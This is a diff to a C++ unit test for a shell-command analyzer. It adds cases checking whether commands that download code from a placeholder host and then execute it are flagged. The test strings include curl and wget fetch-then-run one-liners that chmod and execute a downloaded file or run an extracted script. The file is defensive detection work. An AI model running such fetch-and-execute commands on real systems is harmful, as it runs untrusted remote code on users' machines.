@@ -126,6 +126,11 @@ TEST(CommandLine, KnowsCodeThatFetchesAndRuns) {
     EXPECT_TRUE(
         any_has("(wget -qO- http://a.example/x || curl http://a.example/x) | sh", Fact::RunsDownload));
     EXPECT_FALSE(any_has("(wget -qO- http://a.example/x; id) | grep x; sh", Fact::RunsDownload));
+    EXPECT_TRUE(any_has("f=$(mktemp); curl http://a.example/x > $f; chmod +x $f; $f", Fact::RunsDownload));
+    EXPECT_TRUE(any_has("wget http://a.example/x -O- | tar xz && ./x/start.sh", Fact::RunsDownload));
+    EXPECT_FALSE(any_has("wget http://a.example/x -O- | tar xz && make", Fact::RunsDownload));
+    EXPECT_FALSE(
+        any_has("curl http://a.example/x | tar xz && cd x && ./configure && make", Fact::RunsDownload));
 }
 
 TEST(CommandLine, TakesNoFileForAHost) {
